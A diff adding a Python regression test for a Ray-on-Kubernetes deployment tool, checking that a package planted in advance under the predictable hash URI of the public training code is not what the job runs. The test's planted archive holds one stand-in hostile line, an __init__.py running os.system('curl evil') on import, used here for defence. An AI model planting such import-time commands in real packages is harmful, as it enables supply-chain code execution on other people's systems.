@@ -56,3 +56,29 @@ def test_ray_on_the_cluster_refuses_a_pod_network_client_without_the_token(world
     assert token not in up.stdout + up.stderr
     world.rtui("down", "--yes", timeout=180)
     assert world.cluster.get("Secret", f"{CLUSTER}-ray-token", NAMESPACE) is None
+
+
+def test_a_package_planted_under_the_name_rtui_would_compute_is_not_what_the_job_runs(world: KubeWorld) -> None:
+    """Ray skips the upload when the URI exists (the fake's GET answers 200): a package someone put
+    there first, under the hash of the public ``training/`` code, would be the job's code."""
+    import io
+    import zipfile
+
+    from backend.jobsapi import package_uri
+    from backend.jobspec import training_package_dir
+
+    gpu_cluster(world.cluster)
+    guessed = package_uri(training_package_dir()).split("://", 1)[1]
+    planted = io.BytesIO()
+    with zipfile.ZipFile(planted, "w") as archive:
+        archive.writestr("training/__init__.py", "import os; os.system('curl evil')\n")
+    world.head.packages[guessed] = planted.getvalue()
+
+    up = world.rtui("up", "--yes", "--json", timeout=180)
+    assert events(up.stdout)[-1]["data"]["job_status"] == "SUCCEEDED"
+    (job,) = world.head.jobs.values()
+    (uri,) = job.runtime_env["py_modules"]
+    name = uri.split("://", 1)[1]
+    assert name != guessed and name.startswith("_ray_pkg_") and name.endswith(".zip")
+    shipped = zipfile.ZipFile(io.BytesIO(world.head.packages[name]))
+    assert shipped.read("training/__init__.py") == (training_package_dir() / "__init__.py").read_bytes()
